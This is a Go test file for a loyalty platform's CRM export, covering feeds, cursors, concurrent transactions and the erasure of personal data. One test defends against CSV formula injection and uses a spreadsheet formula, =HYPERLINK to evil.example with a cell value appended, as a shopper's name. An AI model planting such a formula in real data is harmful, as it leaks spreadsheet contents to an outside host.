package crm_test

import (
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"errors"
	"io"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/perk-platform/perk/internal/change"
	"github.com/perk-platform/perk/internal/checkout"
	"github.com/perk-platform/perk/internal/crm"
	"github.com/perk-platform/perk/internal/member"
	"github.com/perk-platform/perk/internal/outfile"
	"github.com/perk-platform/perk/internal/problem"
	"github.com/perk-platform/perk/internal/store"
	"github.com/perk-platform/perk/internal/store/storetest"
)

func sha256Hex(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

// TestExport_FeedsTellTheStoryByCRMID drives the real services through a
// scripted story and reads every feed of the export back: each change once,
// keyed by the member's CRM id (empty for a member without one), anonymous
// baskets left out, an erased member said erased with the CRM id it had and
// nothing else about them. Then the cursor: the next export holds only the
// changes made since, and one from the latest cursor holds nothing.
func TestExport_FeedsTellTheStoryByCRMID(t *testing.T) {
	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
		w := newWorld(t, db)
		ctx := context.Background()
		step := func() { w.clk.Advance(time.Minute) }
		ann := w.enrol(t, "+447700900101", "CRM-1", "Ann")
		step()
		bob := w.enrol(t, "+447700900102", "CRM-2", "Bob")
		step()
		cat := w.enrol(t, "+447700900103", "", "Cat")
		step()
		last := "Smith"
		if _, err := w.members.Update(ctx, ann.ID, member.Patch{LastName: &last}); err != nil {
			t.Fatal(err)
		}
		step()
		w.commit(t, string(ann.Code), "T-1", checkout.Item{Line: 1, SKU: "A", Quantity: 2, UnitPrice: 1000},
			checkout.Item{Line: 2, SKU: "B", Quantity: 1, UnitPrice: 500})
		w.commit(t, "", "T-ANON", checkout.Item{Line: 1, SKU: "A", Quantity: 1, UnitPrice: 1000})
		w.commit(t, string(cat.Code), "T-3", checkout.Item{Line: 1, SKU: "C", Quantity: 1, UnitPrice: 300})
		step()
		if _, err := w.till.Return(ctx, &checkout.ReturnRequest{Store: "S1", TransactionID: "T-1", ReturnID: "R1",
			Items: []checkout.ReturnItem{{Line: 2, Quantity: 1}}}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.points.Adjust(ctx, bob.ID, 50, "goodwill", "ops@shop"); err != nil {
			t.Fatal(err)
		}
		step()
		w.message(t, ann, "G1", "DELIVRD")
		w.message(t, bob, "G2", "UNDELIV")
		w.message(t, cat, "G3", "") // sent, no receipt yet: no outcome to report
		step()
		if _, err := w.members.OptOut(ctx, bob.ID, member.Origin{Method: member.ChannelSMS, Source: "STOP"}); err != nil {
			t.Fatal(err)
		}
		if err := w.members.Erase(ctx, bob.ID); err != nil {
			t.Fatal(err)
		}
		step()

		first := w.exportTo(t, "", outfile.CSV)
		want := map[string][]string{
			// A member row shows the member as they are at the export: Bob
			// erased, so his earlier rows hold nothing of him either.
			"members": {
				"CRM-1 created active Ann Smith ", "CRM-2 created erased   ", " created active Cat  ",
				"CRM-1 updated active Ann Smith last_name", "CRM-2 opted_out erased   ", "CRM-2 erased erased   ",
			},
			"consents": {"CRM-1 granted api", "CRM-2 granted api", " granted api", "CRM-2 withdrawn sms"},
			"transactions": {
				"CRM-1 committed T-1 2500 100 2400 ", " committed T-3 300 100 200 ",
			},
			"lines": {"CRM-1 T-1 1 A 2 1000 2000 80", "CRM-1 T-1 2 B 1 500 500 20", " T-3 1 C 1 300 300 100"},
			"redemptions": {
				"CRM-1 T-1 Pound off amount_off 100", " T-3 Pound off amount_off 100",
			},
			"returns":  {"CRM-1 T-1 R1 480 480"},
			"points":   {"CRM-1 earn 24 T-1", " earn 2 T-3", "CRM-1 reverse -4 T-1", "CRM-2 adjust 50 "},
			"messages": {"CRM-1 delivered DELIVRD test", "CRM-2 failed UNDELIV test"},
		}
		cols := map[string][]string{
			"members":      {"external_id", "change", "status", "first_name", "last_name", "changed"},
			"consents":     {"external_id", "action", "method"},
			"transactions": {"external_id", "event", "transaction_id", "subtotal", "total_discount", "total", "refund"},
			"lines":        {"external_id", "transaction_id", "line", "sku", "quantity", "unit_price", "value", "discount"},
			"redemptions":  {"external_id", "transaction_id", "campaign", "kind", "discount"},
			"returns":      {"external_id", "transaction_id", "return_id", "value", "refund"},
			"points":       {"external_id", "kind", "points", "transaction_id"},
			"messages":     {"external_id", "event", "state", "purpose"},
		}
		for _, feed := range crm.Feeds {
			if got := first.project(feed, cols[feed]...); !slices.Equal(got, want[feed]) {
				t.Errorf("%s:\n got %q\nwant %q", feed, got, want[feed])
			}
		}
		// Changes come in the order they were made, each with its id and time.
		var prev string
		for _, r := range first.feeds["members"] {
			if r["change_id"] <= prev && len(r["change_id"]) <= len(prev) || r["at"] == "" || r["member_id"] == "" {
				t.Errorf("members row %v: change ids must increase, and every row has its time and member", r)
			}
			prev = r["change_id"]
		}
		// Nothing of Bob's but his CRM id and his Perk id: no phone, no name.
		for feed, rows := range first.feeds {
			for _, r := range rows {
				for c, v := range r {
					if strings.Contains(v, "7700900102") || strings.Contains(v, "Bob") {
						t.Errorf("%s: column %s holds Bob's personal data: %q", feed, c, v)
					}
				}
			}
		}
		// JSON Lines hold the same rows.
		jsonl := w.exportTo(t, "", outfile.JSONL)
		for _, feed := range crm.Feeds {
			if a, b := first.project(feed, crm.Columns(feed)...), jsonl.project(feed, crm.Columns(feed)...); !slices.Equal(a, b) {
				t.Errorf("%s: CSV and JSON Lines differ:\n%q\n%q", feed, a, b)
			}
		}

		// Incremental: only what happened after the cursor.
		w.commit(t, string(ann.Code), "T-2", checkout.Item{Line: 1, SKU: "A", Quantity: 1, UnitPrice: 1000})
		step()
		second := w.exportTo(t, first.manifest.Cursor, outfile.CSV)
		wantSecond := map[string][]string{
			"transactions": {"CRM-1 committed T-2 1000 100 900 "},
			"lines":        {"CRM-1 T-2 1 A 1 1000 1000 100"},
			"redemptions":  {"CRM-1 T-2 Pound off amount_off 100"},
			"points":       {"CRM-1 earn 9 T-2"},
		}
		for _, feed := range crm.Feeds {
			if got := second.project(feed, cols[feed]...); !slices.Equal(got, wantSecond[feed]) {
				t.Errorf("since the first cursor, %s:\n got %q\nwant %q", feed, got, wantSecond[feed])
			}
		}
		if second.manifest.Since != first.manifest.Cursor || second.manifest.Cursor == first.manifest.Cursor {
			t.Errorf("second manifest: since %q cursor %q, first cursor %q", second.manifest.Since, second.manifest.Cursor, first.manifest.Cursor)
		}
		third := w.exportTo(t, second.manifest.Cursor, outfile.CSV)
		for _, f := range third.manifest.Files {
			if f.Rows != 0 {
				t.Errorf("since the latest cursor, %s has %d rows, want none", f.Name, f.Rows)
			}
		}
		// On SQLite the cursor is the log's own sequence; on PostgreSQL it
		// follows transaction ids, which other writes move on.
		if db.Dialect == store.SQLite && third.manifest.Cursor != second.manifest.Cursor {
			t.Errorf("an empty export moved the cursor from %q to %q", second.manifest.Cursor, third.manifest.Cursor)
		}
	})
}

// TestExport_RefusesCursorsItDidNotGive: a bad since or until is a field
// error, not an export of everything.
func TestExport_RefusesCursorsItDidNotGive(t *testing.T) {
	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
		w := newWorld(t, db)
		ctx := context.Background()
		r, err := w.export.Open(ctx, crm.Range{})
		if err != nil {
			t.Fatal(err)
		}
		now := r.Cursor
		r.Close()
		ahead := now[:strings.LastIndexByte(now, '.')+1] + "99999999999"
		other := strings.Replace(now, "c1.s.", "c1.x.", 1)
		if db.Dialect == store.Postgres {
			other = strings.Replace(now, "c1.p.", "c1.s.", 1)
		}
		for _, tc := range []struct {
			name, since, until string
			want               error
		}{
			{"not a cursor", "2026-12-01", "", crm.ErrCursorInvalid},
			{"another engine's cursor", other, "", crm.ErrCursorInvalid},
			{"until before since", now, "c1." + string(db.Dialect)[:1] + ".0", crm.ErrUntilInvalid},
			{"until beyond what is final", "", ahead, crm.ErrUntilAhead},
		} {
			t.Run(tc.name, func(t *testing.T) {
				r, err := w.export.Open(ctx, crm.Range{Since: tc.since, Until: tc.until})
				if err == nil {
					r.Close()
				}
				if !errors.Is(err, tc.want) || problem.KindOf(err) != problem.Invalid {
					t.Errorf("Open(%q, %q): %v, want %v", tc.since, tc.until, err, tc.want)
				}
			})
		}
	})
}

// TestExport_AChangeInFlightIsNeitherMissedNorRepeated holds a write
// transaction open while a later one commits and an export runs: the
// export must not move its cursor past the open one's change, or that
// change, committed afterwards, would never be exported. PostgreSQL only:
// SQLite's one writer cannot have two write transactions open at once.
func TestExport_AChangeInFlightIsNeitherMissedNorRepeated(t *testing.T) {
	db := storetest.PostgresIsolated(t)
	w := newWorld(t, db)
	ctx := context.Background()
	ann := w.enrol(t, "+447700900101", "CRM-1", "Ann")
	feed := crm.NewFeed(db, w.clk.Now)
	start := w.exportTo(t, "", outfile.CSV)

	slow, err := db.W.BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer slow.Rollback()
	adjust := func(tx *sql.Tx, reason string) {
		t.Helper()
		err := feed.Record(ctx, tx, change.Event{Type: change.PointsChanged, MemberID: ann.ID,
			Data: map[string]any{"points": 1, "entries": []map[string]any{{"id": reason, "kind": "adjust", "points": 1, "reason": reason}}}})
		if err != nil {
			t.Fatal(err)
		}
	}
	adjust(slow, "slow") // takes the lower seq
	if err := db.Tx(ctx, func(tx *sql.Tx) error { adjust(tx, "fast"); return nil }); err != nil {
		t.Fatal(err)
	}
	during := w.exportWaiting(t, start.manifest.Cursor, outfile.CSV, 0)
	if got := during.project("points", "reason"); len(got) != 0 {
		t.Errorf("with an older change in flight the export read %q; its cursor would skip the slow one", got)
	}
	if err := slow.Commit(); err != nil {
		t.Fatal(err)
	}
	after := w.exportTo(t, during.manifest.Cursor, outfile.CSV)
	if got, want := after.project("points", "reason"), []string{"slow", "fast"}; !slices.Equal(got, want) {
		t.Errorf("after the commit: %q, want %q, each once", got, want)
	}
	if got := w.exportTo(t, after.manifest.Cursor, outfile.CSV).project("points", "reason"); len(got) != 0 {
		t.Errorf("again: %q", got)
	}
}

// TestFeed_RecordsThousandsOfChangesOfOneTransaction: a file import reports
// thousands of changes in one transaction, more than one statement can
// bind; every one is recorded and exported.
func TestFeed_RecordsThousandsOfChangesOfOneTransaction(t *testing.T) {
	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		feed := crm.NewFeed(db, nil)
		const n = 7001 // 2 events each: 14,002 rows, 70,010 parameters
		events := make([]change.Event, 0, 2*n)
		for i := range n {
			id := "mem_" + strconv.Itoa(i)
			events = append(events, change.Event{Type: change.MemberCreated, MemberID: id},
				change.Event{Type: change.ConsentChanged, MemberID: id, Data: map[string]any{"action": "granted"}})
		}
		if err := db.Tx(ctx, func(tx *sql.Tx) error { return feed.Record(ctx, tx, events...) }); err != nil {
			t.Fatal(err)
		}
		r, err := crm.NewExporter(db, nil).Open(ctx, crm.Range{Wait: testWait})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		for feedName, want := range map[string]int64{"members": n, "consents": n} {
			rows, err := r.Write(ctx, feedName, outfile.CSV, io.Discard)
			if err != nil || rows != want {
				t.Errorf("%s: %d rows, %v; want %d", feedName, rows, err, want)
			}
		}
	})
}

// TestExport_AnotherDatabasesTransactionDoesNotHoldItBack: a long
// transaction of another database on the same PostgreSQL server (an
// analytics job, another programme's Perk) cannot write this log, so the
// export does not wait for it; the snapshot's xmin alone would have held
// every later change back until it ended.
func TestExport_AnotherDatabasesTransactionDoesNotHoldItBack(t *testing.T) {
	db := storetest.PostgresIsolated(t)
	w := newWorld(t, db)
	ctx := context.Background()
	ann := w.enrol(t, "+447700900101", "CRM-1", "Ann")
	start := w.exportTo(t, "", outfile.CSV)

	u, err := url.Parse(os.Getenv("PERK_TEST_POSTGRES"))
	if err != nil {
		t.Fatal(err)
	}
	u.Path = "/postgres" // present on every server
	other, err := sql.Open("pgx", u.String())
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	slow, err := other.BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer slow.Rollback()
	var xid string // pg_current_xact_id gives the transaction an id, as a write would
	if err := slow.QueryRowContext(ctx, `SELECT pg_current_xact_id()::text`).Scan(&xid); err != nil {
		t.Fatal(err)
	}

	feed := crm.NewFeed(db, w.clk.Now)
	if err := db.Tx(ctx, func(tx *sql.Tx) error {
		return feed.Record(ctx, tx, change.Event{Type: change.PointsChanged, MemberID: ann.ID,
			Data: map[string]any{"points": 1, "entries": []map[string]any{{"id": "later", "kind": "adjust", "points": 1, "reason": "later"}}}})
	}); err != nil {
		t.Fatal(err)
	}
	// The export waits for this database's writers in flight (other tests
	// share it), not for the other database's.
	got := w.exportTo(t, start.manifest.Cursor, outfile.CSV).project("points", "reason")
	if want := []string{"later"}; !slices.Equal(got, want) {
		t.Errorf("with transaction %s open in database postgres the export read %q, want %q", xid, got, want)
	}
}

// TestExport_CSVCellsCannotRunAsFormulas: a name a shopper typed is text in
// the CSV feed a CRM team opens in Excel (a leading apostrophe), whatever it
// starts with; JSON Lines, for machines, keep it as typed, and numbers (a
// points reversal, an E.164 phone) stay numbers in both.
func TestExport_CSVCellsCannotRunAsFormulas(t *testing.T) {
	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
		w := newWorld(t, db)
		evil := `=HYPERLINK("http://evil.example/?"&A1,"Ann")`
		ann := w.enrol(t, "+447700900101", "@CRM-1", evil)
		w.commit(t, string(ann.Code), "T-1", checkout.Item{Line: 1, SKU: "A", Quantity: 2, UnitPrice: 1000})
		if _, err := w.till.Return(context.Background(), &checkout.ReturnRequest{Store: "S1", TransactionID: "T-1", ReturnID: "R1",
			Items: []checkout.ReturnItem{{Line: 1, Quantity: 1}}}); err != nil {
			t.Fatal(err)
		}
		w.clk.Advance(time.Minute)
		for _, tc := range []struct {
			format     outfile.Format
			name, crm  string
			wantPoints []string
		}{
			{outfile.CSV, "'" + evil, "'@CRM-1", []string{"earn 19", "reverse -9"}},
			{outfile.JSONL, evil, "@CRM-1", []string{"earn 19", "reverse -9"}},
		} {
			got := w.exportTo(t, "", tc.format)
			if m := got.project("members", "external_id", "first_name"); len(m) != 1 || m[0] != tc.crm+" "+tc.name {
				t.Errorf("%s members: %q, want %q", tc.format, m, tc.crm+" "+tc.name)
			}
			if p := got.project("points", "kind", "points"); !slices.Equal(p, tc.wantPoints) {
				t.Errorf("%s points: %q, want %q", tc.format, p, tc.wantPoints)
			}
		}
	})
}
